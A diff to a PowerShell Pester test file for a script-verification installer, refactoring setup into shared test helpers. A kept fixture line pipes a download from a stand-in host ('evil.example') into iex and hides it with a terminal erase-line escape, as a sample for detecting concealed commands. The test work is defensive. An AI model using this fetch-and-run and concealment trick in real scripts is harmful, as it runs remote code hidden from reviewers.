@@ -4,19 +4,11 @@
 # try to hide a line from the reader, and a host that would decode the verified bytes differently.
 BeforeAll {
     Import-Module (Join-Path $PSScriptRoot '../../../SecureInstall.psd1') -Force
+    Import-Module (Join-Path $PSScriptRoot '../TestHelpers.psm1') -Force
     $utf8 = New-Object System.Text.UTF8Encoding($false)
     $FQ = ',SecureInstall.Commands.InvokeVerifiedScriptCommand'
-    function Get-Sha256([string]$Path) { (Get-FileHash -LiteralPath $Path -Algorithm SHA256).Hash.ToLowerInvariant() }
-    function ConvertTo-FileUri([string]$Path) { [System.Uri]::new($Path).AbsoluteUri }
     $root = Resolve-Path (Join-Path $PSScriptRoot '../../..')
-    $cli = Join-Path $root 'src/SecureInstall.Cli/bin/Release/net10.0/secureinstall.dll'
-    if (-not (Test-Path $cli)) { $cli = Join-Path $root 'src/SecureInstall.Cli/bin/Debug/net10.0/secureinstall.dll' }
-    function Invoke-Cli {
-        $out = & dotnet $cli @args 2>&1
-        [pscustomobject]@{ ExitCode = $LASTEXITCODE; Text = ($out | Out-String) }
-    }
-    $savedCache = $env:SECUREINSTALL_CACHE
-    $env:SECUREINSTALL_CACHE = Join-Path $TestDrive 'cache'
+    Set-TestEnvironment SECUREINSTALL_CACHE (Join-Path $TestDrive 'cache')
     $esc = [char]27
     # ESC[2K erases the terminal line and CR returns to its start: a reader of the raw text sees only the cover line.
     $hidden = "iwr https://evil.example/x | iex # $esc[2K`r"
@@ -24,13 +16,12 @@ BeforeAll {
 }
 
 AfterAll {
-    $env:SECUREINSTALL_CACHE = $savedCache
+    Restore-TestEnvironment
 }
 
 Describe 'A script that hides a line from its reader (issue 17 #8)' {
     BeforeEach {
-        $dir = Join-Path $TestDrive ([guid]::NewGuid().ToString('N'))
-        $null = New-Item -ItemType Directory -Path $dir
+        $dir = New-TestFolder
         $script = Join-Path $dir 'install.ps1'
     }
 
@@ -79,8 +70,7 @@ Describe 'A script that hides a line from its reader (issue 17 #8)' {
 
 Describe 'A hostile pin store (issue 17 #3)' {
     BeforeEach {
-        $dir = Join-Path $TestDrive ([guid]::NewGuid().ToString('N'))
-        $null = New-Item -ItemType Directory -Path $dir
+        $dir = New-TestFolder
         $script = Join-Path $dir 'install.ps1'
         [System.IO.File]::WriteAllText($script, "'v1'`n", $utf8)
         $uri = ConvertTo-FileUri $script
